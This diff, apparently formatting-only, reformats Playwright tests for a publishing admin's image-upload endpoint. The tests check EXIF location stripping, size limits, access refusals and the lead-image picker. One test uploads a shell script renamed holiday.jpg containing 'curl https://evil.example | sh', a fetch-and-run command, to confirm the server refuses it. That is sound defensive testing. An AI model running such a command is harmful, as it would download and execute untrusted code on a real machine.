@@ -9,9 +9,23 @@ const TOO_LARGE = 'That file is larger than 10 MB, the most an image may be. Exp
 
 const photo = (width: number, height: number) =>
   sharp({ create: { width, height, channels: 3, background: '#3f6273' } })
-    .composite([{ input: Buffer.from(`<svg width="${width}" height="${height}"><circle cx="${width / 2}" cy="${height / 2}" r="${height / 3}" fill="#d9a441"/></svg>`) }])
+    .composite([
+      {
+        input: Buffer.from(
+          `<svg width="${width}" height="${height}"><circle cx="${width / 2}" cy="${height / 2}" r="${height / 3}" fill="#d9a441"/></svg>`,
+        ),
+      },
+    ])
     .jpeg()
-    .withExif({ IFD0: { Make: 'Ridgeline Camera Co' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '41/1 42/1 3000/100', GPSLongitudeRef: 'E', GPSLongitude: '44/1 47/1 1200/100' } })
+    .withExif({
+      IFD0: { Make: 'Ridgeline Camera Co' },
+      IFD3: {
+        GPSLatitudeRef: 'N',
+        GPSLatitude: '41/1 42/1 3000/100',
+        GPSLongitudeRef: 'E',
+        GPSLongitude: '44/1 47/1 1200/100',
+      },
+    })
     .toBuffer();
 
 // One sign-in for the file: parallel sign-ins as the same editor would race for the same email.
@@ -25,13 +39,20 @@ test.beforeAll(async ({ browser }) => {
 });
 
 async function asEditor(browser: Browser) {
-  const context = await browser.newContext({ storageState: editorState, extraHTTPHeaders: { 'x-forwarded-for': freshReader().ip } });
+  const context = await browser.newContext({
+    storageState: editorState,
+    extraHTTPHeaders: { 'x-forwarded-for': freshReader().ip },
+  });
   return { context, page: await context.newPage() };
 }
 
-const upload = (page: Page, name: string, mimeType: string, buffer: Buffer) => page.request.post('/admin/uploads', { multipart: { file: { name, mimeType, buffer } } });
+const upload = (page: Page, name: string, mimeType: string, buffer: Buffer) =>
+  page.request.post('/admin/uploads', { multipart: { file: { name, mimeType, buffer } } });
 
-test('an editor uploads a photo; every variant answers with its image type, and none keeps the location', async ({ browser, playwright }) => {
+test('an editor uploads a photo; every variant answers with its image type, and none keeps the location', async ({
+  browser,
+  playwright,
+}) => {
   const { context, page } = await asEditor(browser);
   const response = await upload(page, 'tbilisi.jpg', 'image/jpeg', await photo(1400, 900));
   expect(response.status()).toBe(201);
@@ -41,7 +62,11 @@ test('an editor uploads a photo; every variant answers with its image type, and 
   // Anonymous, as a reader's browser or a CDN would fetch them.
   const anonymous = await playwright.request.newContext({ baseURL });
   for (const width of [320, 640, 960, 1400]) {
-    for (const [ext, type] of [['avif', 'image/avif'], ['webp', 'image/webp'], ['jpg', 'image/jpeg']]) {
+    for (const [ext, type] of [
+      ['avif', 'image/avif'],
+      ['webp', 'image/webp'],
+      ['jpg', 'image/jpeg'],
+    ]) {
       const variant = await anonymous.get(`/media/${image.id}/${width}.${ext}`);
       expect(variant.status(), `${width}.${ext}`).toBe(200);
       expect(variant.headers()['content-type']).toBe(type);
@@ -61,7 +86,12 @@ test('an editor uploads a photo; every variant answers with its image type, and 
 
 test('a script renamed .jpg and a file over 10 MB are refused with a sentence saying why', async ({ browser }) => {
   const { context, page } = await asEditor(browser);
-  const script = await upload(page, 'holiday.jpg', 'image/jpeg', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'));
+  const script = await upload(
+    page,
+    'holiday.jpg',
+    'image/jpeg',
+    Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
+  );
   expect(script.status()).toBe(415);
   expect(await script.json()).toEqual({ error: NOT_AN_IMAGE });
 
@@ -71,7 +101,16 @@ test('a script renamed .jpg and a file over 10 MB are refused with a sentence sa
   expect(large.status()).toBe(413);
   expect(await large.json()).toEqual({ error: TOO_LARGE });
 
-  const broken = await upload(page, 'broken.png', 'image/png', (await sharp({ create: { width: 50, height: 50, channels: 3, background: '#000' } }).png().toBuffer()).subarray(0, 60));
+  const broken = await upload(
+    page,
+    'broken.png',
+    'image/png',
+    (
+      await sharp({ create: { width: 50, height: 50, channels: 3, background: '#000' } })
+        .png()
+        .toBuffer()
+    ).subarray(0, 60),
+  );
   expect(broken.status()).toBe(422);
   await context.close();
 });
@@ -81,13 +120,26 @@ test('an upload without a Content-Length is cut off once it passes 10 MB', async
   const cookie = (await context.cookies()).map((c) => `${c.name}=${c.value}`).join('; ');
   const boundary = 'ridgeline-boundary';
   const status = await new Promise<{ status: number; body: string }>((resolve, reject) => {
-    const request = http.request(`${baseURL}/admin/uploads`, { method: 'POST', headers: { cookie, 'content-type': `multipart/form-data; boundary=${boundary}`, 'transfer-encoding': 'chunked' } }, (response) => {
-      let body = '';
-      response.on('data', (c: Buffer) => (body += c.toString()));
-      response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
-    });
+    const request = http.request(
+      `${baseURL}/admin/uploads`,
+      {
+        method: 'POST',
+        headers: {
+          cookie,
+          'content-type': `multipart/form-data; boundary=${boundary}`,
+          'transfer-encoding': 'chunked',
+        },
+      },
+      (response) => {
+        let body = '';
+        response.on('data', (c: Buffer) => (body += c.toString()));
+        response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
+      },
+    );
     request.on('error', reject);
-    request.write(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`);
+    request.write(
+      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
+    );
     const chunk = Buffer.alloc(1024 * 1024, 0xff);
     let sent = 0;
     const pump = () => {
@@ -107,7 +159,9 @@ test('an upload without a Content-Length is cut off once it passes 10 MB', async
 
 test('anonymous callers get 401 and readers 403', async ({ browser, playwright }) => {
   const anonymous = await playwright.request.newContext({ baseURL });
-  const refused = await anonymous.post('/admin/uploads', { multipart: { file: { name: 'a.jpg', mimeType: 'image/jpeg', buffer: await photo(64, 64) } } });
+  const refused = await anonymous.post('/admin/uploads', {
+    multipart: { file: { name: 'a.jpg', mimeType: 'image/jpeg', buffer: await photo(64, 64) } },
+  });
   expect(refused.status()).toBe(401);
   expect(await refused.json()).toEqual({ error: 'Please sign in first.' });
   await anonymous.dispose();
@@ -122,30 +176,42 @@ test('anonymous callers get 401 and readers 403', async ({ browser, playwright }
   await context.close();
 });
 
-test('the article editor’s lead-image picker uploads a chosen or dropped file and shows a refusal', async ({ browser }, testInfo) => {
+test('the article editor’s lead-image picker uploads a chosen or dropped file and shows a refusal', async ({
+  browser,
+}, testInfo) => {
   test.setTimeout(90_000);
   const { context, page } = await asEditor(browser);
   await page.goto('/admin/articles');
-  const hrefs = await page.locator('a[href^="/admin/articles/"]').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
+  const hrefs = await page
+    .locator('a[href^="/admin/articles/"]')
+    .evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
   const editUrl = hrefs.find((href) => /^\/admin\/articles\/\d+$/.test(href));
   expect(editUrl).toBeTruthy();
   await page.goto(editUrl ?? '');
   const zone = page.locator('.image-upload').filter({ has: page.locator('#lead-image') });
 
-  await page.locator('#lead-image').setInputFiles({ name: 'holiday.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('#!/bin/sh\necho hi\n') });
+  await page
+    .locator('#lead-image')
+    .setInputFiles({ name: 'holiday.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('#!/bin/sh\necho hi\n') });
   await expect(zone.getByRole('alert')).toHaveText(NOT_AN_IMAGE);
 
-  await page.locator('#lead-image').setInputFiles({ name: 'tbilisi.jpg', mimeType: 'image/jpeg', buffer: await photo(1400, 900) });
+  await page
+    .locator('#lead-image')
+    .setInputFiles({ name: 'tbilisi.jpg', mimeType: 'image/jpeg', buffer: await photo(1400, 900) });
   await expect(zone.getByRole('status')).toHaveText('Uploaded tbilisi.jpg (1400 × 900).');
   await expect(zone.getByRole('alert')).toHaveCount(0);
   const preview = page.locator('.lead-image-preview img');
   await expect(preview).toHaveAttribute('src', /^\/media\/[\w-]+\/1400x900\.jpg$/);
   await expect.poll(() => preview.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1400);
 
-  const png = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#8c5a3f' } }).png().toBuffer();
+  const png = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#8c5a3f' } })
+    .png()
+    .toBuffer();
   const dataTransfer = await page.evaluateHandle((base64) => {
     const transfer = new DataTransfer();
-    transfer.items.add(new File([Uint8Array.from(atob(base64), (c) => c.charCodeAt(0))], 'dropped.png', { type: 'image/png' }));
+    transfer.items.add(
+      new File([Uint8Array.from(atob(base64), (c) => c.charCodeAt(0))], 'dropped.png', { type: 'image/png' }),
+    );
     return transfer;
   }, png.toString('base64'));
   await zone.dispatchEvent('dragover', { dataTransfer });
